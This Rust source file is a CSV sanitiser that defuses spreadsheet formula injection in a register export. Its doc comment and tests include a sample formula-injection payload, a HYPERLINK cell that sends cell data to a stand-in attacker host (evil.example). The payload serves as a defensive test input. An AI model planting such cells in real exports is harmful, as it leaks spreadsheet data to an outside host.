//! The register's CSV as the console hands it to the advisor: the server's
//! file, read cell by cell and written out again so that no cell can act as
//! a formula in a spreadsheet (a breached server could otherwise put
//! `=HYPERLINK(...)` in a category and have the advisor's spreadsheet fetch
//! it). The register holds codes and days only; a cell that starts like a
//! formula is kept as text, behind a `'`.

use axum::http::{header, HeaderValue};
use axum::response::{IntoResponse, Response};
use meldkluis_crypto_core::TenantId;
use meldkluis_i18n::Lang;

use crate::figures::{self, FiguresReport};
use crate::Error;

/// `bytes` as a download of `content_type` named `name` (any character
/// but ASCII letters, digits, `.`, `-` and `_` made `_`).
pub(crate) fn download(bytes: Vec<u8>, content_type: &'static str, name: &str) -> Response {
    let mut response = bytes.into_response();
    let headers = response.headers_mut();
    headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    let safe: String = name
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_') {
                c
            } else {
                '_'
            }
        })
        .collect();
    if let Ok(value) = HeaderValue::from_str(&format!("attachment; filename=\"{safe}\"")) {
        headers.insert(header::CONTENT_DISPOSITION, value);
    }
    response
}

/// A CSV text (already made harmless) as a download named `name`.
pub(crate) fn csv_download(text: String, name: &str) -> Response {
    download(text.into_bytes(), "text/csv; charset=utf-8", name)
}

/// The tables of a figures report as a CSV download, every cell made
/// harmless for a spreadsheet (category labels come from the server).
pub(crate) fn figures_download(
    report: &FiguresReport,
    lang: Lang,
    tenant: &TenantId,
) -> Result<Response, Error> {
    let text = figures::csv::to_csv(report, lang);
    let text = harmless_csv(text.as_bytes())
        .map_err(|BadCsv| Error::Protocol("the figures CSV does not parse"))?;
    let name = format!(
        "meldkluis-figures-{}-{}.csv",
        tenant.as_str(),
        report.period
    );
    Ok(csv_download(text, &name))
}

/// Why the server's CSV was refused.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct BadCsv;

/// Parses RFC 4180 CSV (quoted cells, `""` for a quote, CRLF or LF line
/// ends) into records. A quote that is never closed is refused.
pub(crate) fn parse(text: &str) -> Result<Vec<Vec<String>>, BadCsv> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut in_quotes = false;
    // Whether anything of the current record was read (so a last line
    // without a line end still counts, and an empty last line does not).
    let mut started = false;
    while let Some(c) = chars.next() {
        if in_quotes {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                '"' => in_quotes = false,
                other => cell.push(other),
            }
            continue;
        }
        match c {
            '"' => {
                in_quotes = true;
                started = true;
            }
            ',' => {
                record.push(std::mem::take(&mut cell));
                started = true;
            }
            '\r' if chars.peek() == Some(&'\n') => {}
            '\n' => {
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
                started = false;
            }
            other => {
                cell.push(other);
                started = true;
            }
        }
    }
    if in_quotes {
        return Err(BadCsv);
    }
    if started {
        record.push(cell);
        records.push(record);
    }
    Ok(records)
}

/// A cell made harmless: one that a spreadsheet would read as a formula
/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a
/// leading `'`; control characters other than line ends are dropped.
fn harmless(cell: &str) -> String {
    let cleaned: String = cell
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t'))
        .collect();
    if cleaned.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cleaned}")
    } else {
        cleaned
    }
}

/// Writes records as CSV with CRLF line ends, quoting where needed, every
/// cell made [`harmless`].
pub(crate) fn write(records: &[Vec<String>]) -> String {
    let mut out = String::new();
    for record in records {
        for (i, cell) in record.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let cell = harmless(cell);
            if cell.contains([',', '"', '\n', '\r']) {
                out.push('"');
                out.push_str(&cell.replace('"', "\"\""));
                out.push('"');
            } else {
                out.push_str(&cell);
            }
        }
        out.push_str("\r\n");
    }
    out
}

/// The server's register CSV, made harmless for a spreadsheet.
pub(crate) fn harmless_csv(bytes: &[u8]) -> Result<String, BadCsv> {
    let text = std::str::from_utf8(bytes).map_err(|_| BadCsv)?;
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    Ok(write(&parse(text)?))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_plain_register_passes_unchanged() {
        let csv = "number,received_day,category\r\n1,2026-11-02,pesten\r\n2,2026-11-03,\r\n";
        assert_eq!(harmless_csv(csv.as_bytes()).unwrap(), csv);
        // LF line ends and no last line end read the same.
        assert_eq!(
            harmless_csv(b"number,category\n1,pesten").unwrap(),
            "number,category\r\n1,pesten\r\n"
        );
    }

    #[test]
    fn formulas_become_text_and_quotes_survive() {
        let csv = "number,category\n1,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\"\n2,+1\n3,@SUM(A1)\n4,-2\n5,\"a,b\"\n";
        let out = harmless_csv(csv.as_bytes()).unwrap();
        let records = parse(&out).unwrap();
        assert_eq!(
            records[1][1],
            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
        );
        assert_eq!(records[2][1], "'+1");
        assert_eq!(records[3][1], "'@SUM(A1)");
        assert_eq!(records[4][1], "'-2");
        assert_eq!(records[5][1], "a,b");
        for record in &records {
            for cell in record {
                assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
            }
        }
    }

    #[test]
    fn broken_csv_is_refused() {
        assert_eq!(harmless_csv(b"a,\"b\n"), Err(BadCsv));
        assert_eq!(harmless_csv(&[0xff, 0xfe]), Err(BadCsv));
    }
}
